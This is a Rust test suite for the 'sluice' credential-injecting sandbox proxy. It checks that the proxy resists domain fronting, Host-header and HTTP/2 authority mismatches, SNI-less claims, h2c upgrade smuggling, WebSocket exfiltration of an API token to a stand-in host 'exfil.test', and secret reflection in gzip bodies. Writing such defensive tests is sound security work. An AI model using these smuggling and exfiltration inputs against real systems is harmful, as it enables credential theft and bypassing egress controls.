//! A hostile sandbox tries to fool the proxy: a Host that disagrees with
//! the authority sluice checked, a name claimed for an address the sandbox
//! never resolved, TLS without SNI, a `ClientHello` sent late, upgrades to
//! other protocols, WebSocket frames carrying placeholders out and secrets
//! back, and a secret reflected inside a compressed body. Every test judges
//! by what the test hosts in their own network namespace received. Needs
//! root.

mod harness;

use std::{
    collections::HashMap,
    io::{BufRead, BufReader},
    net::{IpAddr, SocketAddr},
    process::{Child, Command, Output, Stdio},
    time::{SystemTime, UNIX_EPOCH},
};

use harness::{
    dns::TestDns,
    privileged,
    web::{SeenRequest, TestCa, WebServer},
    Daemon, EchoServer, Sandbox, TestNet,
};
use sluice::audit::{Kind, Verdict};

/// A secret value no other run shares, so a leak is found by searching for it.
fn synthetic_secret() -> String {
    let nanos = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos();
    format!("sk-hostile-{nanos:x}-{:x}", std::process::id())
}

/// The profile every sandbox here starts from; `extra` adds rules.
fn profile(extra: &str) -> String {
    format!(
        r#"
name = "hostile"
[[rule]]
name = "admin-off-limits"
action = "deny"
hosts = ["api.test"]
paths = ["/admin/**"]
reason = "the admin area is off limits"
[[rule]]
name = "front"
action = "allow"
hosts = ["api.test", "evil.test", "allowed.test", "exfil.test"]
ports = [80, 443, 8443]
[[rule]]
name = "pinned"
action = "allow"
hosts = ["pinned.test"]
ports = [443]
tls = "passthrough"
{extra}
[[credential]]
secret = "api"
hosts = ["api.test"]
env = "API_TOKEN"
inject = {{ header = "Authorization", format = "Bearer {{secret}}" }}
"#
    )
}

/// One network namespace holding:
/// - a shared front at .2 serving `api.test` and `evil.test` (TLS on 443,
///   plain on 80), like a CDN address with two tenants;
/// - `allowed.test` at .5 (plain, 80);
/// - `exfil.test` at .6 (TLS, 443), to which no credential is bound;
/// - a canary at .7 that no name resolves to (plain on 80, raw TCP on 443);
/// - a DNS server answering the names above.
struct World {
    net: TestNet,
    ca: TestCa,
    secret: String,
    front: WebServer,
    front_plain: WebServer,
    allowed: WebServer,
    exfil: WebServer,
    canary: WebServer,
    canary_tls: EchoServer,
    _dns: TestDns,
    daemon: Daemon,
}

impl World {
    fn new() -> Self {
        let net = TestNet::new();
        let ca = TestCa::new();
        let secret = synthetic_secret();
        let front_ip = net.v4(2);
        let front_names = ["api.test", "evil.test", &front_ip.to_string()].map(str::to_owned);
        let front_names: Vec<&str> = front_names.iter().map(String::as_str).collect();
        let front = WebServer::start(&net, SocketAddr::new(front_ip, 443), Some(ca.server_config(&front_names, false)));
        let front_plain = WebServer::start(&net, SocketAddr::new(front_ip, 80), None);
        let allowed_ip = net.add_host(5);
        let allowed = WebServer::start(&net, SocketAddr::new(allowed_ip, 80), None);
        let exfil_ip = net.add_host(6);
        let exfil =
            WebServer::start(&net, SocketAddr::new(exfil_ip, 443), Some(ca.server_config(&["exfil.test"], false)));
        let canary_ip = net.add_host(7);
        let canary = WebServer::start(&net, SocketAddr::new(canary_ip, 80), None);
        let canary_tls = EchoServer::start(net.tcp_listener(SocketAddr::new(canary_ip, 443)));
        let zone = HashMap::from([
            ("api.test".to_owned(), vec![front_ip]),
            ("evil.test".to_owned(), vec![front_ip]),
            ("allowed.test".to_owned(), vec![allowed_ip]),
            ("exfil.test".to_owned(), vec![exfil_ip]),
        ]);
        let dns = TestDns::start(net.udp_socket(SocketAddr::new(front_ip, 53)), zone);
        let daemon = Daemon::start_full(Some(dns.addr), Some(&ca.cert_pem), Some(&format!("api = \"{secret}\"\n")));
        Self { net, ca, secret, front, front_plain, allowed, exfil, canary, canary_tls, _dns: dns, daemon }
    }

    /// A sandbox whose commands resolve through sluice.
    fn sandbox(&self, name: &str, extra: &str) -> Sandbox {
        self.daemon.sandbox(name, &profile(extra)).with_nameserver(&self.daemon.dir, self.net.v4(99))
    }

    fn canary_ip(&self) -> IpAddr {
        self.net.v4(7)
    }

    /// No file the daemon wrote holds the secret.
    fn assert_no_secret_in_logs(&self) {
        for path in [self.daemon.decision_log(), self.daemon.dir.join("daemon.log")] {
            let text = std::fs::read_to_string(&path).unwrap_or_default();
            assert!(!text.contains(&self.secret), "the secret is in {}", path.display());
        }
    }
}

fn header<'a>(seen: &'a SeenRequest, name: &str) -> Option<&'a str> {
    seen.headers.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_str())
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Python helpers for raw requests: `tls(host, port, sni, verify)` and
/// `exchange(sock, bytes)` -> the status line (or `closed`).
const PY_RAW: &str = r#"
import socket, ssl, sys, time
def tls(host, port=443, sni=None, verify=True, wait=0):
    ctx = ssl.create_default_context() if verify else ssl._create_unverified_context()
    raw = socket.create_connection((host, port), timeout=20)
    if wait:
        time.sleep(wait)
    return ctx.wrap_socket(raw, server_hostname=sni)
def plain(host, port=80):
    return socket.create_connection((host, port), timeout=20)
def exchange(sock, raw):
    try:
        sock.sendall(raw)
    except OSError:
        pass
    answer = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
    except OSError:
        pass
    sock.close()
    return answer
def status(answer):
    line = answer.split(b"\r\n")[0].decode(errors="replace")
    return line.split(" ")[1] if line.startswith("HTTP/") else "closed"
def tls_or_closed(*args, **kwargs):
    try:
        return tls(*args, **kwargs)
    except (OSError, ssl.SSLError):
        return None
"#;

fn python(sandbox: &Sandbox, script: &str) -> HashMap<String, String> {
    harness::fields(&harness::run_python(sandbox.command("python3"), &format!("{PY_RAW}\n{script}")))
}

#[test]
fn the_upstream_receives_exactly_the_host_sluice_checked() {
    if !privileged() {
        return;
    }
    let world = World::new();
    let sandbox = world.sandbox("front", "");
    let got = python(
        &sandbox,
        r#"
socket.getaddrinfo("evil.test", 443)
def ask(label, raw, port=443):
    sock = tls("api.test", sni="api.test") if port == 443 else plain("api.test", port)
    print(label + "=" + status(exchange(sock, raw)))
ask("good", b"GET /good HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
ask("absolute", b"GET https://api.test/absolute HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
ask("duplicate", b"GET /duplicate HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
ask("fronted", b"GET /fronted HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
ask("plain_absolute", b"GET http://api.test/plain-absolute HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", 80)
"#,
    );
    assert_eq!(got["good"], "200", "{got:?}");
    assert_eq!(got["absolute"], "400", "{got:?}");
    assert_eq!(got["duplicate"], "400", "{got:?}");
    assert_eq!(got["fronted"], "421", "{got:?}");
    assert_eq!(got["plain_absolute"], "400", "{got:?}");

    // HTTP/2: `:authority` and a `host` header that disagree.
    let script = r"
const http2 = require('http2');
const client = http2.connect('https://api.test');
client.on('error', (e) => { console.log('error=' + e.message); process.exit(0); });
let left = 2;
for (const [label, headers] of [
  ['h2_split', { ':path': '/h2-split', ':authority': 'api.test', 'host': 'evil.test' }],
  ['h2_authority', { ':path': '/h2-authority', ':authority': 'evil.test' }],
]) {
  const req = client.request(headers);
  req.on('response', (h) => console.log(label + '=' + h[':status']));
  req.on('error', (e) => console.log(label + '=error ' + e.message));
  req.resume();
  req.on('close', () => { if (--left === 0) client.close(); });
  req.end();
}
";
    let mut node = sandbox.command("node");
    node.args(["-e", script]);
    let h2 = harness::fields(&node.output().unwrap());
    assert_eq!(h2.get("h2_split").map(String::as_str), Some("400"), "{h2:?}");
    assert_eq!(h2.get("h2_authority").map(String::as_str), Some("421"), "{h2:?}");

    // What the front received: the good request with the credential, for
    // api.test; nothing of the disagreeing ones; never evil.test with it.
    let seen = world.front.seen();
    let good = seen.iter().find(|s| s.path == "/good").expect("the good request arrived");
    assert_eq!(good.host, "api.test");
    assert_eq!(header(good, "authorization"), Some(format!("Bearer {}", world.secret).as_str()));
    for path in ["/absolute", "/duplicate", "/fronted", "/h2-split", "/h2-authority"] {
        assert!(!seen.iter().any(|s| s.path == path), "{path} reached the front: {seen:#?}");
    }
    for request in seen.iter().chain(world.front_plain.seen().iter()) {
        let hosts: Vec<&str> = std::iter::once(request.host.as_str())
            .chain(request.headers.iter().filter(|(k, _)| k == "host").map(|(_, v)| v.as_str()))
            .collect();
        let with_secret = request.headers.iter().any(|(_, v)| v.contains(&world.secret));
        assert!(
            !(with_secret && hosts.iter().any(|h| h.starts_with("evil.test"))),
            "evil.test received api.test's credential: {request:?}"
        );
    }
    assert!(!world.front_plain.seen().iter().any(|s| s.path == "/plain-absolute"));

    let decisions = world.daemon.wait_decisions("the refusals", |d| {
        d.iter().filter(|d| d.kind == Kind::Request && d.verdict == Verdict::Deny && d.rule == "host-mismatch").count()
            >= 5
    });
    let refused = |path: &str| {
        decisions.iter().any(|d| {
            d.kind == Kind::Request
                && d.verdict == Verdict::Deny
                && d.path.as_deref() == Some(path)
                && !d.reason.is_empty()
        })
    };
    for path in ["/absolute", "/duplicate", "/plain-absolute", "/h2-split"] {
        assert!(refused(path), "no refusal recorded for {path}");
    }
    world.assert_no_secret_in_logs();
}

#[test]
fn without_sni_a_claimed_host_selects_no_credential() {
    if !privileged() {
        return;
    }
    let world = World::new();
    let front_ip = world.net.v4(2);
    // The address itself is allowed, so the connection goes ahead; the name
    // in its Host header is tied to the address by nothing.
    let by_address =
        format!("[[rule]]\nname = \"by-address\"\naction = \"allow\"\nips = [\"{front_ip}\"]\nports = [443]\n");
    let sandbox = world.daemon.sandbox("nosni", &profile(&by_address));
    let got = python(
        &sandbox,
        &format!(
            r#"
sock = tls("{front_ip}", sni=None, verify=False)
print("claimed=" + status(exchange(sock, b"GET /no-sni HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")))
"#
        ),
    );
    assert!(got.contains_key("claimed"), "{got:?}");
    let seen = world.front.seen();
    assert!(
        !seen.iter().any(|s| s.headers.iter().any(|(_, v)| v.contains(&world.secret))),
        "a TLS connection without SNI got api.test's credential by claiming it: {seen:#?}"
    );
    let decisions = world.daemon.wait_decisions("the request", |d| {
        d.iter().any(|d| d.kind == Kind::Request && d.path.as_deref() == Some("/no-sni"))
    });
    let request = decisions.iter().find(|d| d.kind == Kind::Request && d.path.as_deref() == Some("/no-sni")).unwrap();
    assert!(request.credentials.is_empty(), "{request}");
    assert_ne!(request.host.as_deref(), Some("api.test"), "the claimed name decided the request: {request}");
    world.assert_no_secret_in_logs();
}

#[test]
fn a_claimed_name_is_not_believed_for_an_address_the_sandbox_never_resolved() {
    if !privileged() {
        return;
    }
    let world = World::new();
    let sandbox = world.sandbox("claims", "");
    let canary = world.canary_ip();
    let got = python(
        &sandbox,
        &format!(
            r#"
raw = b"GET /claimed HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
print("before_resolving=" + status(exchange(plain("{canary}"), raw)))
print("resolved=" + status(exchange(plain("allowed.test"), b"GET /resolved HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")))
print("after_resolving=" + status(exchange(plain("{canary}"), raw)))
# Passthrough: an SNI that is allowed, to an address no answer gave for it.
sock = tls_or_closed("{canary}", sni="pinned.test", verify=False)
print("passthrough=" + ("closed" if sock is None else status(exchange(sock, b"GET /pinned HTTP/1.1\r\nHost: pinned.test\r\nConnection: close\r\n\r\n"))))
"#
        ),
    );
    assert_eq!(got["resolved"], "200", "{got:?}");
    assert_eq!(got["before_resolving"], "403", "{got:?}");
    assert_eq!(got["after_resolving"], "403", "{got:?}");
    assert_ne!(got["passthrough"], "200", "{got:?}");
    assert!(world.canary.seen().is_empty(), "the canary received {:?}", world.canary.seen());
    assert_eq!(world.canary_tls.bytes(), 0, "the canary received a spliced connection");
    assert_eq!(world.allowed.seen().len(), 1);

    let decisions = world.daemon.wait_decisions("the refusals", |d| {
        d.iter().filter(|d| d.verdict == Verdict::Deny && d.destination.is_some_and(|a| a.ip() == canary)).count() >= 3
    });
    let reasons: Vec<&str> = decisions
        .iter()
        .filter(|d| d.verdict == Verdict::Deny && d.destination.is_some_and(|a| a.ip() == canary))
        .map(|d| d.reason.as_str())
        .collect();
    assert!(
        reasons.iter().filter(|r| r.contains("not resolved by the sandbox for this address")).count() >= 3,
        "{reasons:#?}"
    );
}

#[test]
fn shipped_bundles_that_mean_https_refuse_plain_http() {
    if !privileged() {
        return;
    }
    let dir = std::env::temp_dir().join(format!("sluice-bundles-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let cases = [
        ("llm.openai", "api.openai.com", "/v1/models"),
        ("llm.anthropic", "api.anthropic.com", "/v1/models"),
        ("vcs.github.readonly", "api.github.com", "/repos/x/y"),
        ("vcs.github.write", "api.github.com", "/repos/x/y"),
        ("pkg.pypi", "index.mirror.test", "/simple/x/"),
        ("pkg.npm", "registry.mirror.test", "/x"),
        ("pkg.crates", "crates.mirror.test", "/x"),
    ];
    for (bundle, host, path) in cases {
        let profile = dir.join("profile.toml");
        std::fs::write(
            &profile,
            format!(
                "name = \"b\"\nbundles = [\"{bundle}\"]\n[aliases]\npypi = [\"{host}\"]\nnpm = [\"{host}\"]\ncrates = [\"{host}\"]\n"
            ),
        )
        .unwrap();
        let file = dir.join("cases.toml");
        std::fs::write(
            &file,
            format!(
                "[[case]]\nurl = \"https://{host}{path}\"\nexpect = \"allow\"\nip = \"198.18.0.10\"\n\
                 [[case]]\nurl = \"http://{host}:443{path}\"\nexpect = \"deny\"\nip = \"198.18.0.10\"\n"
            ),
        )
        .unwrap();
        let output = harness::run_sluice(&["policy", "test", profile.to_str().unwrap(), file.to_str().unwrap()]);
        assert!(output.status.success(), "{bundle}: {}{}", stdout(&output), String::from_utf8_lossy(&output.stderr));
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_slow_client_hello_is_still_intercepted_and_a_silent_client_is_refused() {
    if !privileged() {
        return;
    }
    let world = World::new();
    let sandbox = world.sandbox("slow", "");
    let got = python(
        &sandbox,
        r#"
socket.getaddrinfo("api.test", 443)
# Not verifying: were the connection spliced, the real upstream would answer.
print("admin=" + status(exchange(tls("api.test", sni="api.test", verify=False, wait=2.5), b"GET /admin/slow HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")))
print("reflect=" + status(exchange(tls("api.test", sni="api.test", verify=False, wait=2.5), b"GET /slow HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")))
silent = socket.create_connection(("api.test", 443), timeout=30)
start = time.time()
try:
    got = "closed" if not silent.recv(1) else "answered"
except socket.timeout:
    got = "waited"
except OSError:
    got = "closed"
print("silent=" + got + " after=" + str(round(time.time() - start)))
"#,
    );
    assert_eq!(got["admin"], "403", "a late ClientHello went around the path rule: {got:?}");
    assert_eq!(got["reflect"], "200", "{got:?}");
    assert!(got["silent"].starts_with("closed"), "{got:?}");
    let seen = world.front.seen();
    assert!(!seen.iter().any(|s| s.path.starts_with("/admin")), "{seen:#?}");
    let slow = seen.iter().find(|s| s.path == "/slow").expect("the slow request arrived");
    assert_eq!(
        header(slow, "authorization"),
        Some(format!("Bearer {}", world.secret).as_str()),
        "the credential went in, so the request was intercepted"
    );
    let decisions = world.daemon.wait_decisions("the silent client's refusal", |d| {
        d.iter().any(|d| d.kind == Kind::Connect && d.verdict == Verdict::Deny && d.rule == "client-silent")
    });
    assert!(decisions
        .iter()
        .any(|d| d.kind == Kind::Request && d.method.as_deref() == Some("GET") && d.path.as_deref() == Some("/slow")));
    assert!(!decisions.iter().any(|d| d.verdict == Verdict::Allow && d.protocol.as_deref() == Some("opaque")));
}

#[test]
fn upgrades_other_than_websocket_are_refused_and_websocket_frames_stay_checked() {
    if !privileged() {
        return;
    }
    let world = World::new();
    let sandbox = world.sandbox("upgrades", "");
    let got = python(
        &sandbox,
        r#"
h2c = b"GET /h2c HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
print("h2c=" + status(exchange(plain("evil.test"), h2c)))
other = b"GET /other HTTP/1.1\r\nHost: api.test\r\nConnection: upgrade, close\r\nUpgrade: x-tunnel\r\n\r\n"
print("other=" + status(exchange(tls("api.test", sni="api.test"), other)))
"#,
    );
    assert!(got["h2c"].starts_with('4'), "{got:?}");
    assert!(got["other"].starts_with('4'), "{got:?}");
    for request in world.front.seen().iter().chain(world.front_plain.seen().iter()) {
        assert!(request.path != "/h2c" && request.path != "/other", "an upgrade went through: {request:?}");
        assert!(header(request, "upgrade").is_none_or(|u| u.eq_ignore_ascii_case("websocket")), "{request:?}");
    }

    // WebSocket with Node's client: a placeholder in a frame to a host it
    // is not bound to (whole, and split across two frames), and a secret
    // echoed back by the bound host.
    let script = r"
const [url, mode] = process.argv.slice(1);
const token = process.env.API_TOKEN;
const ws = new WebSocket(url);
ws.onopen = () => {
  ws.send('hello');
  if (mode === 'whole') ws.send('token=' + token);
  if (mode === 'split') { ws.send('token=' + token.slice(0, 12)); ws.send(token.slice(12)); }
  if (mode === 'echo') ws.send('authorization?');
  setTimeout(() => { console.log('open-after=yes'); ws.close(); }, 1500);
};
ws.onmessage = (event) => console.log('got=' + event.data);
ws.onclose = () => { console.log('closed=yes'); process.exit(0); };
ws.onerror = () => console.log('error=yes');
setTimeout(() => { console.log('timeout=yes'); process.exit(0); }, 15000);
";
    let node = |url: &str, mode: &str| {
        let mut node = sandbox.command("node");
        node.args(["--experimental-websocket", "-e", script, url, mode]);
        stdout(&node.output().unwrap())
    };
    let placeholder = sandbox.env.iter().find(|(k, _)| k == "API_TOKEN").map(|(_, v)| v.clone()).unwrap();
    let whole = node("wss://exfil.test/ws", "whole");
    let split = node("wss://exfil.test/ws", "split");
    let echo = node("wss://api.test/ws", "echo");
    let frames = world.exfil.ws_frames();
    assert!(frames.iter().any(|f| f == b"hello"), "the WebSocket worked at all: {frames:?} {whole}");
    let all: Vec<u8> = frames.concat();
    assert!(
        !all.windows(placeholder.len()).any(|w| w == placeholder.as_bytes()),
        "a placeholder reached an unbound host in WebSocket frames: {:?}",
        frames.iter().map(|f| String::from_utf8_lossy(f).into_owned()).collect::<Vec<_>>()
    );
    assert!(whole.contains("closed=yes") && !whole.contains("got=token="), "{whole}");
    assert!(split.contains("closed=yes"), "{split}");
    assert!(echo.contains("got=hello"), "{echo}");
    assert!(echo.contains("got=Bearer "), "the bound host's echo arrived: {echo}");
    assert!(!echo.contains(&world.secret), "the secret came back to the sandbox in a WebSocket frame: {echo}");
    let decisions = world.daemon.wait_decisions("the frame refusal", |d| {
        d.iter().any(|d| {
            d.verdict == Verdict::Deny && d.rule == "credential-exfiltration" && d.host.as_deref() == Some("exfil.test")
        })
    });
    assert!(decisions
        .iter()
        .any(|d| d.kind == Kind::Request && d.verdict == Verdict::Deny && d.path.as_deref() == Some("/h2c")));
    world.assert_no_secret_in_logs();
}

/// An HTTPS upstream written in Python that echoes the Authorization it
/// got, gzip-compressed when the client accepts gzip (or always, on paths
/// under `/always`), and writes what it received to a log.
struct GzipUpstream {
    child: Child,
    log: std::path::PathBuf,
}

const GZIP_SERVER: &str = r#"
import gzip, http.server, json, ssl, sys
ip, port, cert, key, log = sys.argv[1:6]
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        auth = self.headers.get("Authorization", "")
        accept = self.headers.get("Accept-Encoding", "")
        with open(log, "a") as f:
            f.write(json.dumps({"path": self.path, "accept_encoding": accept, "authorization": auth}) + "\n")
        body = ("authorization=" + auth + "\n").encode()
        compress = "gzip" in accept or self.path.startswith("/always")
        if compress:
            body = gzip.compress(body)
        self.send_response(200)
        if compress:
            self.send_header("Content-Encoding", "gzip")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
server = http.server.ThreadingHTTPServer((ip, int(port)), Handler)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
server.socket = ctx.wrap_socket(server.socket, server_side=True)
print("ready", flush=True)
server.serve_forever()
"#;

impl GzipUpstream {
    fn start(world: &World, addr: SocketAddr) -> Self {
        let (cert, key) = world.ca.leaf_pem(&["api.test"]);
        let dir = &world.daemon.dir;
        let (cert_path, key_path, log) = (dir.join("gz-cert.pem"), dir.join("gz-key.pem"), dir.join("gz.jsonl"));
        std::fs::write(&cert_path, cert).unwrap();
        std::fs::write(&key_path, key).unwrap();
        let mut child = Command::new("ip")
            .args(["netns", "exec", &world.net.name, "python3", "-c", GZIP_SERVER])
            .arg(addr.ip().to_string())
            .arg(addr.port().to_string())
            .args([&cert_path, &key_path, &log])
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        assert_eq!(line.trim(), "ready");
        Self { child, log }
    }

    fn received(&self) -> Vec<serde_json::Value> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }
}

impl Drop for GzipUpstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn a_secret_does_not_come_back_inside_a_compressed_body() {
    if !privileged() {
        return;
    }
    let world = World::new();
    let upstream = GzipUpstream::start(&world, SocketAddr::new(world.net.v4(2), 8443));
    let sandbox = world.sandbox("gzip", "");
    let output = harness::run_python(
        sandbox.command("python3"),
        r#"
import gzip, http.client, ssl
for path in ["/gz", "/always"]:
    c = http.client.HTTPSConnection("api.test", 8443, timeout=15, context=ssl.create_default_context())
    c.request("GET", path, headers={"Accept-Encoding": "gzip"})
    r = c.getresponse()
    raw = r.read()
    body = gzip.decompress(raw) if r.getheader("Content-Encoding", "") == "gzip" else raw
    print(path[1:] + "_status=" + str(r.status))
    print(path[1:] + "_body=" + repr(body))
    print(path[1:] + "_raw=" + raw.hex())
"#,
    );
    let text = stdout(&output);
    let got = harness::fields(&output);
    assert!(!text.contains(&world.secret), "the secret reached the sandbox: {text}");
    let secret_hex: String = world.secret.bytes().fold(String::new(), |mut hex, b| {
        use std::fmt::Write as _;
        let _ = write!(hex, "{b:02x}");
        hex
    });
    assert!(!text.contains(&secret_hex), "the secret reached the sandbox: {text}");
    assert_eq!(got["gz_status"], "200", "{text}");
    assert!(got["gz_body"].contains("authorization=Bearer "), "{text}");
    let received = upstream.received();
    let gz = received.iter().find(|r| r["path"] == "/gz").expect("the upstream got /gz");
    assert_eq!(gz["authorization"], format!("Bearer {}", world.secret), "the credential went in");
    assert_eq!(gz["accept_encoding"], "", "Accept-Encoding went out with an injected credential: {gz}");
    // An upstream that compresses anyway gets no secret through either.
    assert_ne!(got["always_status"], "200", "{text}");
    world.assert_no_secret_in_logs();
}
